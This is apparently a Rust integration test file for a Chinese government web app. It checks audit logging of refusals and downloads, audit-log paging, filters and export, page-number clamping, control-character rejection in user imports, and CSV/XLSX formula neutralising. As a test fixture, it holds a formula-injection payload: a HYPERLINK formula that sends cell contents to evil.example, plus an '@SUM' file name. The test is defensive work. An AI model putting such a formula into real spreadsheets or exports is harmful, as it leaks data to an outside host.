//! Hardening (issue 12, items 4, 5 and 11): every refusal and download in the audit
//! trail, an audit page that pages by key with filters and an export, CSV cells that
//! cannot run as formulas, and two inputs that used to answer 500.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use reqwest::StatusCode;
use reqwest::multipart::Form;
use shian::accounts::Role;

use crate::support::{Browser, Page, TestApp, file, pdf};

const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
const FORMULA_FILE: &str = "@SUM(1+1)cmd.pdf";

async fn download(browser: &Browser, path: &str) -> (StatusCode, Vec<u8>) {
    let response = browser
        .client
        .get(format!("{}{path}", browser.base))
        .send()
        .await
        .expect("GET");
    let status = response.status();
    (status, response.bytes().await.expect("body").to_vec())
}

fn csv_records(bytes: &[u8]) -> Vec<csv::StringRecord> {
    assert!(
        bytes.starts_with(&[0xEF, 0xBB, 0xBF]),
        "CSV starts with a BOM"
    );
    csv::Reader::from_reader(&bytes[3..])
        .records()
        .map(|r| r.expect("valid CSV record"))
        .collect()
}

async fn upload(browser: &mut Browser, task: i64, title: &str, name: &str, seed: u8) {
    browser.get(&format!("/tasks/{task}")).await;
    let form = Form::new()
        .text("title", title.to_string())
        .text("kind", "document")
        .text("year", "2025")
        .text("description", "")
        .part("files", file(name, pdf(3_000, seed)));
    let page = browser
        .post_multipart(&format!("/tasks/{task}/evidence"), form)
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER, "{}", page.body);
}

async fn latest_version(app: &TestApp, task: i64) -> i64 {
    sqlx::query_scalar(
        "SELECT v.id FROM evidence_versions v JOIN evidence e ON e.id = v.evidence_id \
         WHERE e.task_id = $1 ORDER BY v.id DESC LIMIT 1",
    )
    .bind(task)
    .fetch_one(&app.pool)
    .await
    .expect("a version")
}

/// `access.refused` rows: (username or "", path, reason, method).
async fn refusals(app: &TestApp) -> Vec<(String, String, String, String)> {
    sqlx::query_as(
        "SELECT coalesce(u.username, ''), a.object_id, a.summary->>'reason', a.summary->>'method' \
         FROM audit_events a LEFT JOIN users u ON u.id = a.actor_id \
         WHERE a.action = 'access.refused' ORDER BY a.id",
    )
    .fetch_all(&app.pool)
    .await
    .expect("audit query")
}

#[tokio::test]
async fn hardening_audit_csv_and_xlsx_cells_cannot_be_formulas() {
    let app = TestApp::spawn().await;
    let mut clerk = app
        .signed_in("karuo", Role::Department, Some("卡若区"))
        .await;
    let office = app
        .signed_in("office", Role::Office, Some("市食安办"))
        .await;
    let task = app.task_id(29, "卡若区").await;
    upload(&mut clerk, task, FORMULA_TITLE, FORMULA_FILE, 1).await;

    let (status, bytes) = download(&office, "/exports/evidence.csv").await;
    assert_eq!(status, StatusCode::OK);
    let records = csv_records(&bytes);
    let row = records
        .iter()
        .find(|r| r[1] == task.to_string())
        .expect("the evidence is exported");
    assert_eq!(&row[6], format!("'{FORMULA_TITLE}"), "title neutralised");
    assert_eq!(&row[9], format!("'{FORMULA_FILE}"), "file name neutralised");
    assert!(
        records
            .iter()
            .flat_map(|r| r.iter().map(str::to_string).collect::<Vec<_>>())
            .all(|cell| !cell.starts_with(['=', '+', '@', '\t', '\r'])),
        "no cell of the export starts like a formula"
    );

    // The archive's index sheet holds the same text as a string, never a formula.
    let (status, bytes) = download(&office, "/exports/evidence.zip").await;
    assert_eq!(status, StatusCode::OK);
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("zip");
    let mut index = Vec::new();
    archive
        .by_name("索引.xlsx")
        .expect("index sheet")
        .read_to_end(&mut index)
        .expect("index bytes");
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(index)).expect("xlsx");
    let formulas = workbook.worksheet_formula("索引").expect("formulas");
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formulas in the index"
    );
    let range = workbook.worksheet_range("索引").expect("sheet");
    let cells: Vec<&Data> = range.used_cells().map(|(_, _, c)| c).collect();
    assert!(
        cells.contains(&&Data::String(FORMULA_TITLE.to_string())),
        "the title is a string cell: {cells:?}"
    );
}

#[tokio::test]
async fn hardening_audit_huge_page_numbers_are_clamped() {
    let app = TestApp::spawn().await;
    let mut office = app
        .signed_in("office", Role::Office, Some("市食安办"))
        .await;
    for page in [
        "9223372036854775807",
        "-9223372036854775808",
        "99999999999999999999",
        "0",
    ] {
        let got = office.get(&format!("/tasks?page={page}")).await;
        assert_eq!(got.status, StatusCode::OK, "/tasks?page={page}");
        let got = office.get(&format!("/api/v1/tasks?page={page}")).await;
        assert_eq!(got.status, StatusCode::OK, "/api/v1/tasks?page={page}");
        let json: serde_json::Value = serde_json::from_str(&got.body).expect("JSON");
        let expected = if page.starts_with('9') { 100_000 } else { 1 };
        assert_eq!(json["page"], expected, "{page}");
        if expected == 1 {
            assert!(!json["tasks"].as_array().unwrap().is_empty());
        } else {
            assert!(json["tasks"].as_array().unwrap().is_empty());
        }
    }
}

#[tokio::test]
async fn hardening_audit_user_import_refuses_control_characters_by_line() {
    let app = TestApp::spawn().await;
    let mut admin = app.signed_in("admin", Role::Admin, None).await;
    admin.get("/admin/users/import").await;
    let text = "用户名,姓名,角色,单位\nnyj.zhang,张三,部门,市农业农村局\nnyj.li,李\u{0}四,部门,市农业农村局\n";
    let form = Form::new().text("text", text.to_string());
    let page = admin.post_multipart("/admin/users/import", form).await;
    assert_eq!(
        page.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        page.body
    );
    assert!(page.contains("第 3 行"), "{}", page.body);
    assert!(page.contains("控制字符 U+0000"), "{}", page.body);
    assert!(
        page.contains("nyj.zhang,张三,部门,市农业农村局"),
        "the rest of the text is kept"
    );

    // The same as an uploaded file, read by an English-speaking admin.
    let form = Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(text.as_bytes().to_vec()).file_name("users.csv"),
    );
    let token = admin.token().await;
    let page = admin
        .client
        .post(format!(
            "{}/admin/users/import?csrf_token={token}",
            admin.base
        ))
        .header("accept-language", "en")
        .multipart(form)
        .send()
        .await
        .expect("POST");
    assert_eq!(page.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = page.text().await.unwrap();
    assert!(
        body.contains("Line 3: Contains an invisible control character U+0000"),
        "{body}"
    );
    let users: i64 = sqlx::query_scalar("SELECT count(*) FROM users")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(users, 1, "nothing imported");
}

#[tokio::test]
async fn hardening_audit_refusals_leave_access_refused_rows() {
    let app = TestApp::spawn().await;
    let mut own = app
        .signed_in("nyj", Role::Department, Some("市农业农村局"))
        .await;
    let mut prober = app
        .signed_in("karuo", Role::Department, Some("卡若区"))
        .await;

    // The other organisation's task, file and monthly report file.
    let task = app.task_id(29, "市农业农村局").await;
    upload(&mut own, task, "检测报告", "报告.pdf", 3).await;
    let version = latest_version(&app, task).await;
    let month: String = sqlx::query_scalar("SELECT to_char(now(), 'YYYY-MM')")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    own.get("/reports").await;
    let form = Form::new()
        .text("period", month)
        .text("body", "本月工作。")
        .part("files", file("月报.pdf", pdf(2_000, 4)));
    let page = own.post_multipart("/reports", form).await;
    assert_eq!(page.status, StatusCode::SEE_OTHER, "{}", page.body);
    let report_file: i64 = sqlx::query_scalar("SELECT file_id FROM monthly_report_files")
        .fetch_one(&app.pool)
        .await
        .unwrap();

    let probes = [
        format!("/tasks/{task}"),
        format!("/files/{version}"),
        format!("/reports/files/{report_file}"),
    ];
    for path in &probes {
        let page = prober.get(path).await;
        assert_eq!(page.status, StatusCode::FORBIDDEN, "{path}");
    }
    // A department user at the admin pages, a form post without its token, and the
    // JSON API without credentials.
    assert_eq!(prober.get("/admin").await.status, StatusCode::FORBIDDEN);
    let page = prober
        .post_raw(&format!("/tasks/{task}/submit"), &[("comment", "x")])
        .await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
    let anonymous = app.browser();
    let (status, _) = download(&anonymous, "/api/v1/tasks").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);

    let rows = refusals(&app).await;
    let expected: Vec<(String, String, String, String)> = probes
        .iter()
        .map(|p| ("karuo".into(), p.clone(), "policy".into(), "GET".into()))
        .chain([
            ("karuo".into(), "/admin".into(), "role".into(), "GET".into()),
            (
                "karuo".into(),
                format!("/tasks/{task}/submit"),
                "csrf_token".into(),
                "POST".into(),
            ),
            (
                "".into(),
                "/api/v1/tasks".into(),
                "no_credentials".into(),
                "GET".into(),
            ),
        ])
        .collect();
    assert_eq!(rows, expected);
    let addresses: Vec<Option<String>> =
        sqlx::query_scalar("SELECT client_addr FROM audit_events WHERE action = 'access.refused'")
            .fetch_all(&app.pool)
            .await
            .unwrap();
    assert!(
        addresses.iter().all(|a| a.as_deref() == Some("127.0.0.1")),
        "{addresses:?}"
    );
}

#[tokio::test]
async fn hardening_audit_downloads_and_previews_are_recorded() {
    let app = TestApp::spawn().await;
    let mut clerk = app
        .signed_in("nyj", Role::Department, Some("市农业农村局"))
        .await;
    let office = app
        .signed_in("office", Role::Office, Some("市食安办"))
        .await;
    let task = app.task_id(29, "市农业农村局").await;
    upload(&mut clerk, task, "检测报告", "报告.pdf", 5).await;
    let version = latest_version(&app, task).await;
    let (status, _) = download(&office, &format!("/files/{version}")).await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = download(&office, &format!("/files/{version}?inline=1")).await;
    assert_eq!(status, StatusCode::OK);

    clerk.get("/reports").await;
    let month: String = sqlx::query_scalar("SELECT to_char(now(), 'YYYY-MM')")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    let form = Form::new()
        .text("period", month)
        .text("body", "本月工作。")
        .part("files", file("月报.pdf", pdf(2_000, 6)));
    assert_eq!(
        clerk.post_multipart("/reports", form).await.status,
        StatusCode::SEE_OTHER
    );
    let report_file: i64 = sqlx::query_scalar("SELECT file_id FROM monthly_report_files")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    let (status, _) = download(&office, &format!("/reports/files/{report_file}")).await;
    assert_eq!(status, StatusCode::OK);

    let rows: Vec<(String, String, String, Option<bool>, String)> = sqlx::query_as(
        "SELECT a.action, a.object_type, a.object_id, (a.summary->>'inline')::boolean, u.username \
         FROM audit_events a JOIN users u ON u.id = a.actor_id \
         WHERE a.action IN ('file.download', 'file.preview') ORDER BY a.id",
    )
    .fetch_all(&app.pool)
    .await
    .unwrap();
    assert_eq!(
        rows,
        vec![
            (
                "file.download".into(),
                "evidence_version".into(),
                version.to_string(),
                Some(false),
                "office".into()
            ),
            (
                "file.preview".into(),
                "evidence_version".into(),
                version.to_string(),
                Some(true),
                "office".into()
            ),
            (
                "file.download".into(),
                "report_file".into(),
                report_file.to_string(),
                Some(false),
                "office".into()
            ),
        ]
    );
}

/// The ids of the rows a page of the audit log shows, and its older/newer links.
fn audit_rows(page: &Page) -> (Vec<i64>, Option<String>, Option<String>) {
    let document = scraper::Html::parse_document(&page.body);
    let rows = scraper::Selector::parse("tr[data-id]").unwrap();
    let ids = document
        .select(&rows)
        .map(|e| e.value().attr("data-id").unwrap().parse().unwrap())
        .collect();
    let link = |rel: &str| {
        let selector = scraper::Selector::parse(&format!("nav.pager a[rel={rel}]")).unwrap();
        document
            .select(&selector)
            .next()
            .map(|e| e.value().attr("href").unwrap().to_string())
    };
    (ids, link("next"), link("prev"))
}

/// Every page of the log for `query`, following the "older" links.
async fn all_pages(admin: &mut Browser, query: &str) -> Vec<i64> {
    let mut ids = Vec::new();
    let mut next = Some(format!("/admin/audit?{query}"));
    while let Some(path) = next {
        let page = admin.get(&path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}: {}", page.body);
        let (rows, older, _) = audit_rows(&page);
        ids.extend(rows);
        next = older;
    }
    ids
}

async fn expected_ids(app: &TestApp, condition: &str) -> Vec<i64> {
    sqlx::query_scalar(&format!(
        "SELECT id FROM audit_events WHERE at >= '2026-11-01 00:00+08' AND at < '2026-12-01 00:00+08' \
         AND {condition} ORDER BY at DESC, id DESC"
    ))
    .fetch_all(&app.pool)
    .await
    .unwrap()
}

#[tokio::test]
async fn hardening_audit_page_filters_pages_by_key_and_exports() {
    let app = TestApp::spawn().await;
    let mut admin = app.signed_in("admin", Role::Admin, None).await;
    let alice = app
        .create_user("alice", Role::Department, Some("卡若区"), "Passw0rd!")
        .await;
    let bob = app
        .create_user("bob", Role::Department, Some("市农业农村局"), "Passw0rd!")
        .await;
    let karuo: i64 = sqlx::query_scalar("SELECT organisation_id FROM users WHERE id = $1")
        .bind(alice)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    // 250 events an hour apart from 1 November (China time), by alice, bob or no one.
    sqlx::query(
        "INSERT INTO audit_events (at, actor_id, actor_org_id, action, object_type, object_id, summary) \
         SELECT timestamptz '2026-11-01 00:30+08' + g * interval '1 hour', \
                CASE g % 3 WHEN 0 THEN $1 WHEN 1 THEN $2 END, \
                CASE g % 3 WHEN 0 THEN $3 WHEN 1 THEN (SELECT organisation_id FROM users WHERE id = $2) END, \
                CASE WHEN g % 2 = 0 THEN 'file.download' ELSE 'task.submit' END, 'task', 'obj-' || g, \
                jsonb_build_object('n', g, 'note', CASE WHEN g % 50 = 0 THEN 'needle' ELSE 'hay' END) \
         FROM generate_series(0, 249) g",
    )
    .bind(alice)
    .bind(bob)
    .bind(karuo)
    .execute(&app.pool)
    .await
    .unwrap();
    let month = "from=2026-11-01&to=2026-11-30";

    // The whole month, 100 a page, newest first, every row once.
    let all = expected_ids(&app, "TRUE").await;
    assert_eq!(all.len(), 250);
    assert_eq!(all_pages(&mut admin, month).await, all);
    // From the second page, "newer" leads back to the first.
    let first = admin.get(&format!("/admin/audit?{month}")).await;
    let (first_ids, older, newer) = audit_rows(&first);
    assert_eq!(first_ids, all[..100]);
    assert!(newer.is_none(), "nothing is newer than the newest page");
    let second = admin.get(&older.unwrap()).await;
    let (second_ids, _, newer) = audit_rows(&second);
    assert_eq!(second_ids, all[100..200]);
    let back = admin.get(&newer.expect("a newer link")).await;
    assert_eq!(audit_rows(&back).0, all[..100]);

    let filters: Vec<(String, String)> = vec![
        ("user=ALICE".into(), format!("actor_id = {alice}")),
        (format!("org={karuo}"), format!("actor_org_id = {karuo}")),
        (
            "action=file.download".into(),
            "action = 'file.download'".into(),
        ),
        (
            "user=bob&action=task.submit".into(),
            format!("actor_id = {bob} AND action = 'task.submit'"),
        ),
        ("q=needle".into(), "summary->>'note' = 'needle'".into()),
        ("q=obj-24".into(), "object_id LIKE 'obj-24%'".into()),
    ];
    for (query, condition) in filters {
        let want = expected_ids(&app, &condition).await;
        assert!(!want.is_empty(), "{query}");
        assert_eq!(
            all_pages(&mut admin, &format!("{month}&{query}")).await,
            want,
            "{query}"
        );
    }
    // One China day: 00:30 on the 3rd is hour 48.
    let day = all_pages(&mut admin, "from=2026-11-03&to=2026-11-03").await;
    let want: Vec<i64> = sqlx::query_scalar(
        "SELECT id FROM audit_events WHERE at >= '2026-11-03 00:00+08' AND at < '2026-11-04 00:00+08' \
         ORDER BY at DESC, id DESC",
    )
    .fetch_all(&app.pool)
    .await
    .unwrap();
    assert_eq!(want.len(), 24);
    assert_eq!(day, want);

    // Bad filters say what is wrong instead of showing everything.
    let page = admin.get("/admin/audit?from=2026-13-01").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.contains("2026-13-01"), "{}", page.body);
    let page = admin.get("/admin/audit?user=nobody").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.contains("nobody"));

    // The export holds exactly the filtered rows, and is itself audited.
    let (status, bytes) = download(
        &admin,
        &format!("/admin/audit/export.csv?{month}&action=file.download"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let records = csv_records(&bytes);
    let ids: Vec<i64> = records.iter().map(|r| r[0].parse().unwrap()).collect();
    assert_eq!(ids, expected_ids(&app, "action = 'file.download'").await);
    assert!(
        records
            .iter()
            .all(|r| &r[4] == "下载文件" && &r[5] == "file.download")
    );
    assert!(
        records[0][7].contains("note: "),
        "readable details: {:?}",
        &records[0]
    );
    assert!(
        app.audit_actions()
            .await
            .contains(&"export.audit_csv".to_string())
    );
}

#[tokio::test]
async fn hardening_audit_page_shows_actions_and_details_in_words() {
    let app = TestApp::spawn().await;
    let mut admin = app.signed_in("admin", Role::Admin, None).await;
    sqlx::query(
        "INSERT INTO audit_events (action, object_type, object_id, summary) VALUES \
         ('file.preview', 'evidence_version', '7', '{\"file\": \"抽检报告.pdf\", \"inline\": true}'), \
         ('some.future_action', 'thing', '1', '{}')",
    )
    .execute(&app.pool)
    .await
    .unwrap();
    let page = admin.get("/admin/audit").await;
    assert_eq!(page.status, StatusCode::OK);
    let actions = page.texts(".audit-action");
    assert!(actions.contains(&"预览文件".to_string()), "{actions:?}");
    assert!(actions.contains(&"登录".to_string()), "{actions:?}");
    assert!(
        actions.contains(&"some.future_action".to_string()),
        "unknown codes show as themselves"
    );
    let details = page.texts("td.summary");
    assert!(
        details.contains(&"file: 抽检报告.pdf; inline: 是".to_string()),
        "{details:?}"
    );
    assert!(details.iter().all(|d| !d.starts_with('{')), "no raw JSON");
    assert!(
        page.texts("select[name=action] option")
            .contains(&"预览文件".to_string())
    );

    let page = admin
        .get_with("/admin/audit", ("accept-language", "en"))
        .await;
    // The admin has saved no language, so the browser's preference decides.
    let actions = page.texts(".audit-action");
    assert!(
        actions.contains(&"Previewed a file".to_string()),
        "{actions:?}"
    );
    assert!(actions.contains(&"Signed in".to_string()), "{actions:?}");
    assert!(
        page.texts("td.summary")
            .contains(&"file: 抽检报告.pdf; inline: yes".to_string())
    );
}
